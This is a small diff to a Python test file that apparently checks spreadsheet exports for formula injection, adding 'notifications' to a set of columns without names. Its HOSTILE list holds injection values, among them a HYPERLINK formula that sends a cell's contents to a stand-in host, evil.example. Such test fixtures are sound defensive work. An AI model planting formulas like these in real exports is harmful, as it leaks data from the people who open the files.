@@ -29,7 +29,7 @@ from backoffice.services import orgs as org_service
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-3+4", "@SUM(1)"]
 # Lists whose columns can hold neither a name nor an organisation's name (still checked for formulas).
-NO_NAME_COLUMNS = {"documents"}
+NO_NAME_COLUMNS = {"documents", "notifications"}
 
 
 @pytest.fixture
